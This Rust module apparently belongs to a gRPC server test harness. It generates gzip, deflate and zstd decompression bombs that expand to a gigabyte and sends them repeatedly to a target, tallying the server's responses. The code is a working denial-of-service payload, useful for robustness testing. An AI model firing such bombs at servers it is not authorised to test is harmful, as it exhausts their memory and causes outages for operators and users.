//! Messages of a megabyte or less that expand to a gigabyte.

use std::{
    collections::BTreeMap,
    net::SocketAddr,
    time::{Duration, Instant},
};

use bytes::{BufMut as _, Bytes, BytesMut};
use flate2::{Compress, Compression, FlushCompress};
use http::HeaderValue;
use tokio::time::{sleep, timeout};

use super::Size;
use crate::{
    honest::connection::{Connection, End, Target, head},
    questions::{PREFIX, TENSORS, UNARY},
};

/// What a bomb expands to, in mebibytes.
const EXPANDED: usize = 1024;

/// A part of that: as much as a block of zstd holds.
const BLOCK: usize = 1 << 17;

/// Between two bombs: what unpacking costs up to the bound is the server's to pay.
const PAUSE: Duration = Duration::from_millis(100);

/// Longer than a server takes to say no.
const PATIENCE: Duration = Duration::from_secs(10);

/// One after the other, by each encoding in turn.
pub(super) async fn run(target: SocketAddr, size: Size) -> anyhow::Result<String> {
    let bombs = [("gzip", UNARY, gzip()?), ("deflate", TENSORS, deflate()?), ("zstd", UNARY, zstd())];
    let target = Target { address: target, generation: 0 };
    let (end, mut codes) = (size.end(), BTreeMap::<String, usize>::new());
    let mut connection = Connection::open(target).await?;
    for (encoding, method, bomb) in bombs.iter().cycle() {
        if Instant::now() >= end {
            break;
        }
        let mut head = head(target, method, None)?;
        head.headers_mut().insert("grpc-encoding", HeaderValue::from_static(encoding));
        let patience = PATIENCE.min(end.saturating_duration_since(Instant::now()));
        let became = match timeout(patience, connection.ask(head, bomb.clone())).await {
            Ok(End::Answered(code, ..)) => format!("{encoding} {code:?}"),
            Ok(End::NotTaken | End::Broken(_)) => {
                connection = Connection::open(target).await?;
                format!("{encoding} cut off")
            }
            Err(_) => format!("{encoding} not answered"),
        };
        *codes.entry(became).or_default() += 1;
        sleep(PAUSE).await;
    }
    Ok(codes.iter().map(|(became, times)| format!("{became} {times}")).collect::<Vec<_>>().join(", "))
}

fn framed(message: &[u8]) -> Bytes {
    let mut frame = BytesMut::with_capacity(PREFIX + message.len());
    frame.put_u8(1);
    frame.put_u32(u32::try_from(message.len()).unwrap_or(u32::MAX));
    frame.put_slice(message);
    frame.freeze()
}

/// Zeros by deflate: a block of 128 KiB that needs nothing before it, over and over.
fn zeros() -> anyhow::Result<Vec<u8>> {
    let mut block = Vec::with_capacity(1 << 14);
    Compress::new(Compression::best(), false).compress_vec(&vec![0; BLOCK], &mut block, FlushCompress::Full)?;
    Ok(block.repeat(EXPANDED * (1 << 20) / BLOCK))
}

fn gzip() -> anyhow::Result<Bytes> {
    // gzip's head (RFC 1952); nobody gets as far as its end.
    let mut message = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255];
    message.extend(zeros()?);
    Ok(framed(&message))
}

fn deflate() -> anyhow::Result<Bytes> {
    // zlib's head (RFC 1950).
    let mut message = vec![0x78, 0xda];
    message.extend(zeros()?);
    Ok(framed(&message))
}

/// Blocks of one repeated byte, the largest that there are (RFC 8878, section 3.1.1.2).
fn zstd() -> Bytes {
    let mut message = BytesMut::new();
    message.put_slice(&[0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x38]);
    for _ in 0..EXPANDED * (1 << 20) / BLOCK {
        message.put_uint_le((BLOCK << 3 | 1 << 1) as u64, 3);
        message.put_u8(0);
    }
    framed(&message)
}
